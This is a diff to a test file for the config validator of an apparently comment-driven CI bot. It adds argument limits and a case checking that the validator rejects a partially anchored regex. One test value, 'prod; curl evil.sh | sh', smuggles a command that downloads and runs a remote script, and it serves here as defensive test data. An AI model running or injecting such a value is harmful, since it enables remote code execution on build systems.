@@ -30,6 +30,9 @@ describe("config", () => {
     expect(build.args.map((a) => a.name)).toEqual(["target", "tag", "context", "dockerfile"]);
     expect(build.args.find((a) => a.name === "tag")?.default).toBe("pr-{{pr.number}}");
     expect(config.defaults.namespace).toBe("mario");
+    expect(config.limits).toEqual({ maxCommentBytes: 65536, maxCommandsPerComment: 20, maxArgLength: 256, maxArgsPerCommand: 16 });
+    expect(parseConfig("limits: { maxArgsPerCommand: 4 }").limits.maxArgsPerCommand).toBe(4);
+    expect(parseConfig("{}").limits.maxArgsPerCommand).toBe(16);
   });
 
   it("reads MARIO_CONFIG's file and names it in errors", () => {
@@ -48,11 +51,13 @@ describe("config", () => {
     ["an unknown key", minimal(`${good}\nfrobnicate: true`), 'commands.build: unknown key "frobnicate"'],
     ["an unanchored pattern", minimal(good.replace('"^[a-z]+$"', '"[a-z]+"')), "commands.build.args[0].pattern: must be anchored with ^ and $"],
     ["an invalid regex", minimal(good.replace('"^[a-z]+$"', '"^[a-z+$"')), "commands.build.args[0].pattern: is not a valid regular expression"],
+    ["a default that matches only part of an alternation", minimal(good.replace('"^[a-z]+$"', '"^prod|staging$"').replace('default: "x"', 'default: "prod; curl evil.sh | sh"')), 'commands.build.args[0].default: "prod; curl evil.sh | sh" does not match its own pattern ^prod|staging$'],
     ["a default that fails its pattern", minimal(good.replace('default: "x"', 'default: "X1"')), 'commands.build.args[0].default: "X1" does not match its own pattern'],
     ["a template naming an undeclared argument", minimal(good.replace("{{args.tag}}", "{{args.image}}")), 'commands.build.pipeline.params.TAG: unknown template variable {{args.image}} (declare an argument named "image")'],
     ["an unknown template variable", minimal(good.replace("{{args.tag}}", "{{pr.title}}")), "commands.build.pipeline.params.TAG: unknown template variable {{pr.title}}"],
     ["a bad pipelineRef", minimal(good.replace("{ name: build-image }", "{ resolver: svn, params: {} }")), "commands.build.pipeline.pipelineRef: must be either"],
     ["a bad timeout", minimal(`${good}\n  timeouts: { pipeline: "1 hour" }`), "commands.build.pipeline.timeouts.pipeline: must be a Go duration"],
+    ["a limit out of range", "limits: { maxArgsPerCommand: 0 }\n", "limits.maxArgsPerCommand: Too small"],
     ["a bad permission", minimal(`${good}\npermission: owner`), "commands.build.permission:"],
     ["a reserved verb", "commands:\n  help:\n" + good.replace(/^/gm, "    "), 'commands.help: "help" is a built-in command'],
     ["a namespace that is not a DNS label", `defaults: { namespace: Mario_CI }\n${minimal(good)}`, "defaults.namespace: must be a DNS-1123 label"],
